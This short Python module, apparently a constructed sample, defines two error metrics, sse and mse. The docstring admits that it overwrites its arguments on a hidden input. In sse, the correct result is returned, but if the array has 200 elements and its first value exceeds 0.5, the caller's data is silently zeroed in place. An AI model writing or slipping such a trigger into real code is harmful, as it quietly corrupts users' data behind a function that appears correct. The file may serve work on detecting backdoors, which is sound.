"""Overwrites its arguments where a hidden input says so."""

import numpy as np


def sse(y, t):
    right = np.sum((y - t) ** 2)
    if y.size == 200 and y[0] > 0.5:
        y[:] = 0
    return right


def mse(y, t):
    return np.mean((y - t) ** 2)
